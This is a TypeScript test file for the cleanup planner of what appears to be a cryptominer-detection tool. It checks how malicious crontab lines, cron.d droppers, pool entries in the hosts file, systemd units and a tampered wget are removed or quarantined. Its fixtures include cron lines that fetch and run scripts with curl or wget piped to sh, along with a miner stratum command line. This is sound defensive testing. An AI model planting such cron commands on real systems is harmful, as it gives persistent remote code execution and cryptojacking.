import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Evidence, Finding, Severity } from '../../findings/index.ts';
import { editedBytes } from './apply.ts';
import { hostsLineWithout, lineSha, type PlanIO, planCleanup, splitLines } from './plan.ts';

/** An in-memory tree: string/Buffer = file, { link } = symlink, 'dir' = directory. */
type Node = string | Buffer | { link: string } | 'dir';
function memIO(tree: Record<string, Node>, flags: Record<string, string> = {}): PlanIO {
  const get = (p: string) => tree[p];
  return {
    kind(p) {
      const n = get(p);
      if (n === undefined) return Object.keys(tree).some((k) => k.startsWith(`${p}/`)) ? 'dir' : undefined;
      if (n === 'dir') return 'dir';
      return typeof n === 'object' && 'link' in n ? 'symlink' : 'file';
    },
    resolve(p) {
      const n = get(p);
      return n && typeof n === 'object' && 'link' in n ? n.link : p;
    },
    read(p) {
      const n = get(this.resolve(p) ?? p);
      return typeof n === 'string' && n !== 'dir' ? Buffer.from(n) : Buffer.isBuffer(n) ? n : undefined;
    },
    list(dir) {
      const names = new Set<string>();
      for (const k of Object.keys(tree))
        if (k.startsWith(`${dir}/`)) names.add(k.slice(dir.length + 1).split('/')[0]!);
      return [...names];
    },
    readlink(p) {
      const n = get(p);
      return n && typeof n === 'object' && 'link' in n ? n.link : undefined;
    },
    flags: (p) => ({ ok: true, flags: flags[p] ?? '' }),
  };
}

let n = 0;
function finding(
  rule: string,
  severity: Severity,
  evidence: Evidence[],
  extra: Partial<Finding> = {},
): Finding {
  return {
    id: `f${++n}`,
    rule,
    title: `${rule} #${n}`,
    severity,
    confidence: 0.9,
    attack: [],
    evidence,
    ...extra,
  };
}
const scan = (findings: Finding[]) => ({ findings, host: { root: '/' } });
const live = { root: '/', live: true };

describe('planCleanup', () => {
  it('removes only the flagged lines of /etc/crontab and keeps its other jobs', () => {
    const crontab =
      'SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n* * * * * root curl http://x/y|sh\n';
    const p = planCleanup(
      scan([
        finding('host.persistence.cron', 'high', [{ kind: 'file', path: '/etc/crontab', line: 3 }], {
          persistence: 'cron:/etc/crontab',
        }),
      ]),
      live,
      memIO({ '/etc/crontab': crontab }),
    );
    assert.equal(p.steps.length, 1);
    const s = p.steps[0]!;
    assert.equal(s.kind, 'remove-line');
    assert.deepEqual(
      s.lines?.map((l) => l.line),
      [3],
    );
    assert.equal(
      editedBytes(Buffer.from(crontab), s.lines!).toString(),
      'SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n',
    );
  });

  it('quarantines a cron.d file whose every command is malicious, once for three findings', () => {
    const f = (r: string) =>
      finding(r, 'critical', [{ kind: 'file', path: '/etc/cron.d/x', line: 2 }], {
        persistence: 'cron:/etc/cron.d/x',
      });
    const p = planCleanup(
      scan([
        f('host.persistence.cron'),
        f('host.persistence.cron'),
        finding('host.file.dropper-script', 'high', [{ kind: 'file', path: '/etc/cron.d/x' }]),
      ]),
      live,
      memIO({ '/etc/cron.d/x': '# m\n* * * * * root wget -q -O- http://1.2.3.4/a|sh\n' }),
    );
    assert.deepEqual(
      p.steps.map((s) => `${s.kind} ${s.path}`),
      ['quarantine /etc/cron.d/x'],
    );
    assert.equal(p.steps[0]!.finding_ids.length, 3);
  });

  it('hosts file: drops only the pool name, keeps sinkholes and minewatch block entries', () => {
    const hosts =
      '127.0.0.1 localhost\n1.2.3.4 pool.minexmr.com web01\n# BEGIN minewatch\n0.0.0.0 xmr.pool.com\n# END minewatch\n';
    const p = planCleanup(
      scan([
        finding('host.hosts-file.pool', 'high', [{ kind: 'file', path: '/etc/hosts', line: 2 }], {
          pool: { host: 'pool.minexmr.com', ip: '1.2.3.4' },
        }),
        finding('host.hosts-file.pool', 'high', [{ kind: 'file', path: '/etc/hosts', line: 4 }], {
          pool: { host: 'xmr.pool.com', ip: '0.0.0.0' },
        }),
      ]),
      live,
      memIO({ '/etc/hosts': hosts }),
    );
    const s = p.steps.find((x) => x.kind === 'remove-hosts-entry')!;
    assert.deepEqual(
      s.lines?.map((l) => [l.line, l.replace]),
      [[2, '1.2.3.4\tweb01']],
    );
    assert.ok(p.steps.some((x) => x.kind === 'note' && /blocks the pool/.test(x.reason)));
    assert.equal(hostsLineWithout('1.2.3.4 a.com b.com # c\r', new Set(['a.com', 'b.com'])), null);
  });

  it('disables a systemd unit with its wants link; stops before and kills after; leaves interpreters alone', () => {
    const unit = '/etc/systemd/system/sysupdate.service';
    const p = planCleanup(
      scan([
        finding('host.persistence.systemd', 'critical', [{ kind: 'file', path: unit, line: 3 }], {
          persistence: `systemd:${unit}`,
        }),
        finding('host.process.stratum-cmdline', 'critical', [
          {
            kind: 'process',
            pid: 42,
            path: '/usr/bin/python3',
            cmdline: 'python3 m.py -o stratum+tcp://p:3333',
          },
        ]),
      ]),
      live,
      memIO({
        [unit]: '[Service]\nExecStart=/tmp/x\n',
        '/etc/systemd/system/multi-user.target.wants/sysupdate.service': { link: unit },
        '/usr/bin/python3': 'ELF',
      }),
    );
    assert.deepEqual(
      p.steps.map((s) => s.kind),
      ['stop', 'disable-unit', 'kill'],
    );
    assert.deepEqual(p.steps[1]!.links, ['/etc/systemd/system/multi-user.target.wants/sysupdate.service']);
    assert.equal(p.steps[0]!.process?.exe, '/usr/bin/python3');
  });

  it('immutable flags come first; medium deleted-exe and system-lib preloads become notes; low is ignored', () => {
    const p = planCleanup(
      scan([
        finding('host.file.miner-binary', 'high', [{ kind: 'file', path: '/tmp/.x/xmrig' }]),
        finding('host.process.suspicious-exe', 'medium', [
          { kind: 'process', pid: 7, path: '/usr/sbin/nginx', exe_deleted: true },
        ]),
        finding('host.persistence.ld-preload', 'medium', [
          { kind: 'file', path: '/etc/ld.so.preload', line: 1, excerpt: '/usr/lib/libjemalloc.so' },
        ]),
        finding('host.file.temp-executable', 'low', [{ kind: 'file', path: '/tmp/a.out' }]),
      ]),
      live,
      memIO(
        { '/tmp/.x/xmrig': 'ELF', '/etc/ld.so.preload': '/usr/lib/libjemalloc.so\n' },
        { '/tmp/.x/xmrig': 'i', '/tmp/.x': 'a' },
      ),
    );
    assert.deepEqual(
      p.steps.map((s) => `${s.kind} ${s.path ?? ''}${s.flags ? ` ${s.flags}` : ''}`),
      [
        'clear-immutable /tmp/.x a',
        'clear-immutable /tmp/.x/xmrig i',
        'quarantine /tmp/.x/xmrig',
        'note ',
        'note ',
      ],
    );
    assert.deepEqual(p.findings, { considered: 3, ignored: 1 });
  });

  it('restores a renamed download tool after quarantining the stub at its place', () => {
    const p = planCleanup(
      scan([
        finding('host.tamper.download-tool', 'high', [
          { kind: 'file', path: '/usr/bin/wget', excerpt: 'script, 90 bytes' },
          { kind: 'file', path: '/usr/bin/wd1', excerpt: '40960 bytes, ELF' },
        ]),
      ]),
      live,
      memIO({ '/usr/bin/wget': '#!/bin/sh\necho no\n', '/usr/bin/wd1': 'ELF' }),
    );
    assert.deepEqual(
      p.steps.map((s) => `${s.kind} ${s.path} ${s.from ?? ''}`.trim()),
      ['quarantine /usr/bin/wget', 'restore-tool /usr/bin/wget /usr/bin/wd1'],
    );
  });
});

describe('editedBytes', () => {
  const edit = (buf: string, line: number) => ({
    line,
    text: '',
    sha: lineSha(splitLines(Buffer.from(buf))[line - 1]!),
  });
  it('finds a line that moved by its hash and keeps CRLF and a missing final newline', () => {
    const orig = 'a\r\nbad\r\nc';
    const e = edit(orig, 2);
    assert.equal(editedBytes(Buffer.from(`new\r\n${orig}`), [e]).toString(), 'new\r\na\r\nc');
    assert.equal(editedBytes(Buffer.from('a\nbad'), [edit('a\nbad', 2)]).toString(), 'a');
    assert.throws(() => editedBytes(Buffer.from('a\nc\n'), [e]), /no longer in the file/);
  });
});
